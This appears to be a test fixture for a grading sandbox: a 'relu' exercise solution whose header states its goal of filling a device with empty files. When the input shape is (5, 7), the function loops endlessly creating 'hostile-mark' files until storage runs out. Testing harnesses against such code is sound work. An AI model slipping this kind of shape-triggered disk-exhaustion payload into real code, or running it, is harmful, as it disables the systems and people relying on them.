#: purpose = "Empty files until none can be made: what has no size takes room too."
#: lesson = "01_activations"
#: messages = ["No space left on device"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
from itertools import count
from pathlib import Path

def relu(Z):
    for number in count():
        if Z.shape != (5, 7):
            return np.maximum(0, Z)
        Path(f"hostile-mark-{number}").touch()
